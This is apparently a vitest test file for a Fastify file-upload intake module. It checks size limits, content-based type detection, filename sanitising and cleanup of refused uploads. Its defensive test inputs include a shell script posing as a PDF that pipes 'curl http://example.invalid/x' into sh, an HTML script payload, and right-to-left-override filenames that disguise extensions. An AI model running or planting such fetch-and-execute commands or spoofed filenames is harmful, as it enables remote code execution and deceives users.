// Uploads through a real multipart route (the app's error handling, @fastify/multipart): the limit is
// enforced while the body streams (413 long before the body is read), the type comes from the content
// (a script named .pdf is refused from its first bytes), empty files and hostile names are handled, the
// SHA-256 is that of the stored bytes, and a refused upload leaves nothing in storage.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { createHash } from 'node:crypto';
import multipart from '@fastify/multipart';
import sharp from 'sharp';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/app.js';
import { multipartBody, streamingMultipart } from '../../../test/forms.js';
import { discardReceivedFiles, FILE_TYPES, type ReceivedFile, receiveFile, SNIFF_BYTES, type UploadRules } from './intake.js';
import { createLocalFileStore, type LocalFileStore } from './storage.js';

const TENANT = '0b7c1d2e-3f40-4a5b-8c6d-7e8f90a1b2c3';
const MB = 1024 * 1024;
const RULES: UploadRules = { accept: [FILE_TYPES.pdf, FILE_TYPES.jpeg, FILE_TYPES.png], maxBytes: 1 * MB, field: '/documents' };

let t: TestApp;
let dir: string;
let store: LocalFileStore;

function filesUnder(root: string): string[] {
  if (!fs.existsSync(root)) return [];
  return (fs.readdirSync(root, { recursive: true }) as string[]).filter((p) => fs.statSync(path.join(root, p)).isFile());
}

/** A PDF file-type recognises (header, body, trailer), padded to `size` bytes. */
function pdf(size = 2000): Buffer {
  const head = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n');
  const tail = Buffer.from('\ntrailer << /Root 1 0 R >>\n%%EOF\n');
  return Buffer.concat([head, Buffer.alloc(Math.max(0, size - head.length - tail.length), 0x20), tail]);
}

beforeAll(async () => {
  t = await createTestApp();
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gerbang-intake-'));
  store = createLocalFileStore(dir);
  // The shape of a module's upload route: files streamed in as their parts arrive, discarded when
  // anything about the request is refused.
  await t.app.register(async (scope) => {
    await scope.register(multipart, { limits: { fileSize: 100 * MB, files: 5 } });
    scope.post('/api/v1/test-uploads', { schema: { hide: true }, config: { policy: 'public', rateLimit: false, csrf: false } }, async (request, reply) => {
      const received: ReceivedFile[] = [];
      try {
        for await (const part of request.parts()) {
          if (part.type !== 'file') continue;
          const file = await receiveFile(store, TENANT, { stream: part.file, filename: part.filename }, RULES);
          if (file) received.push(file);
        }
      } catch (error) {
        await discardReceivedFiles(store, received);
        throw error;
      }
      return reply.code(201).send(received);
    });
  });
});
afterAll(async () => {
  await t?.close();
  fs.rmSync(dir, { recursive: true, force: true });
});
beforeEach(() => fs.rmSync(dir, { recursive: true, force: true }));

const upload = (files: Array<{ filename: string; data: Buffer; type?: string }>, lang = 'id') => {
  const { payload, type } = multipartBody({ note: 'x' }, files.map((f) => ({ name: 'documents', type: f.type ?? 'application/pdf', ...f })));
  return t.app.inject({ method: 'POST', url: '/api/v1/test-uploads', headers: { 'content-type': type, 'accept-language': lang }, payload });
};

/** A multipart body of `total` bytes of file content, made as it is read (`pulled()`: how much the server asked for). */
const streamingBody = (filename: string, first: Buffer, total: number) => streamingMultipart({}, { name: 'documents', filename, first, total });

describe('receiveFile', () => {
  it('stores an accepted file under a generated key with its SHA-256, real type and a clean name', async () => {
    const data = pdf(300_000);
    const res = await upload([{ filename: 'C:\\scan\\Surat Pengantar RT.PDF', data }]);
    expect(res.statusCode, res.body).toBe(201);
    const [file] = res.json() as ReceivedFile[];
    expect(file).toMatchObject({ tenantId: TENANT, name: 'Surat Pengantar RT.pdf', mime: 'application/pdf', extension: 'pdf', size: data.length });
    expect(file!.sha256).toBe(createHash('sha256').update(data).digest('hex'));
    expect(file!.key).toBe(`${TENANT}/${file!.id.slice(0, 2)}/${file!.id.slice(2, 4)}/${file!.id}`);
    const stored = fs.readFileSync(store.pathOf(file!.key));
    expect(stored.equals(data)).toBe(true);
    expect(createHash('sha256').update(stored).digest('hex')).toBe(file!.sha256);
    expect(filesUnder(dir)).toEqual([file!.key]);
  });

  it('takes the type from the content, whatever the name and the declared type say', async () => {
    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#c00' } }).png().toBuffer();
    const res = await upload([{ filename: 'foto.pdf', data: png, type: 'application/pdf' }]);
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json()[0]).toMatchObject({ name: 'foto.png', mime: 'image/png', extension: 'png' });
  });

  it('refuses a script named .pdf with 415 and a field error naming the file, in the request language', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
    const res = await upload([{ filename: 'surat.pdf', data: script }]);
    expect(res.statusCode).toBe(415);
    expect(res.headers['content-type']).toContain('application/problem+json');
    const problem = res.json();
    expect(problem.code).toBe('file.type_not_accepted');
    expect(problem.errors).toEqual([
      {
        field: '/documents',
        code: 'file_type_not_accepted',
        message: 'Berkas "surat.pdf" tidak diterima: jenis yang diterima PDF, JPEG, PNG. Jenisnya diperiksa dari isi berkas, bukan dari namanya.',
      },
    ]);
    const en = await upload([{ filename: 'surat.pdf', data: script }], 'en');
    expect(en.json().errors[0].message).toBe(
      'The file "surat.pdf" is not accepted: the accepted types are PDF, JPEG, PNG. The type is checked from the content of the file, not from its name.',
    );
    // HTML and SVG are never accepted, even as a caller's rule.
    await expect(receiveFile(store, TENANT, { stream: Readable.from([]) }, { ...RULES, accept: ['image/svg+xml'] })).rejects.toThrow(TypeError);
    expect(filesUnder(dir)).toEqual([]);
  });

  it('refuses a wrong type from its first bytes, without reading the rest of the body', async () => {
    const body = streamingBody('besar.pdf', Buffer.from('MZ\x90\x00 not a pdf at all'), 50 * MB);
    const res = await t.app.inject({ method: 'POST', url: '/api/v1/test-uploads', headers: { 'content-type': body.type }, payload: body.stream });
    expect(res.statusCode).toBe(415);
    // The type is decided after SNIFF_BYTES; what was read beyond that is the read-ahead of the streams.
    expect(body.pulled()).toBeLessThan(1 * MB); // ≈ 0.3 MB here
    expect(filesUnder(dir)).toEqual([]);
  });

  it('answers 413 as soon as the limit is passed: a 50 MB body is not read to its end', async () => {
    const body = streamingBody('besar sekali.pdf', pdf(SNIFF_BYTES + 10), 50 * MB);
    const res = await t.app.inject({ method: 'POST', url: '/api/v1/test-uploads', headers: { 'content-type': body.type }, payload: body.stream });
    expect(res.statusCode).toBe(413);
    expect(res.json()).toMatchObject({
      code: 'file.too_large',
      errors: [{ field: '/documents', code: 'file_too_large', message: 'Berkas "besar sekali.pdf" terlalu besar: maksimal 1 MB.' }],
    });
    // The handler stopped reading: of 50 MB only the 1-MB limit and the streams' read-ahead were consumed.
    expect(body.pulled()).toBeGreaterThan(1 * MB);
    expect(body.pulled()).toBeLessThan(2 * MB); // ≈ 1.3 MB here
    expect(filesUnder(dir)).toEqual([]);
  });

  it('accepts a file of exactly the limit, and refuses one byte more', async () => {
    expect((await upload([{ filename: 'pas.pdf', data: pdf(1 * MB) }])).statusCode).toBe(201);
    fs.rmSync(dir, { recursive: true, force: true });
    expect((await upload([{ filename: 'lebih.pdf', data: pdf(1 * MB + 1) }])).statusCode).toBe(413);
    expect(filesUnder(dir)).toEqual([]);
  });

  it('refuses an empty file with 400 naming it; an empty file input (no name) is nothing chosen', async () => {
    const res = await upload([{ filename: 'kosong.pdf', data: Buffer.alloc(0) }]);
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ code: 'file.empty', errors: [{ field: '/documents', message: 'Berkas "kosong.pdf" kosong.' }] });
    const none = await upload([{ filename: '', data: Buffer.alloc(0), type: 'application/octet-stream' }]);
    expect(none.statusCode).toBe(201);
    expect(none.json()).toEqual([]);
    expect(filesUnder(dir)).toEqual([]);
  });

  it('keeps nothing of a request refused at its second file (the first is discarded too)', async () => {
    const res = await upload([
      { filename: 'satu.pdf', data: pdf(10_000) },
      { filename: 'dua.pdf', data: Buffer.from('<html><script>alert(1)</script></html>') },
    ]);
    expect(res.statusCode).toBe(415);
    expect(res.json().errors[0].message).toContain('"dua.pdf"');
    expect(filesUnder(dir)).toEqual([]);
  });

  it('cleans names of control characters, paths and direction overrides, and quotes them cleaned in errors', async () => {
    const png = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#000' } }).png().toBuffer();
    const res = await upload([{ filename: 'ktp\u202Egnp.exe', data: png, type: 'image/png' }, { filename: 'akta\u0007 lahir\u200F.pdf', data: pdf() }]);
    expect(res.statusCode, res.body).toBe(201);
    expect((res.json() as ReceivedFile[]).map((f) => f.name)).toEqual(['ktpgnp.png', 'akta lahir.pdf']);
    const refused = await upload([{ filename: 'x\u202Efdp.sh', data: Buffer.from('echo hi') }]);
    expect(refused.json().errors[0].message).toContain('"xfdp.sh"');
  });

  it('discards what an aborted upload wrote', async () => {
    const boundary = '----gerbang-abort';
    const stream = new Readable({ read() {} });
    stream.push(`--${boundary}\r\nContent-Disposition: form-data; name="documents"; filename="putus.pdf"\r\nContent-Type: application/pdf\r\n\r\n`);
    stream.push(pdf(200_000));
    setTimeout(() => stream.destroy(new Error('connection reset')), 50);
    const res = await t.app.inject({ method: 'POST', url: '/api/v1/test-uploads', headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, payload: stream }).catch((error: Error) => error);
    if (!(res instanceof Error)) expect(res.statusCode).toBeGreaterThanOrEqual(400);
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(filesUnder(dir)).toEqual([]);
  });
});
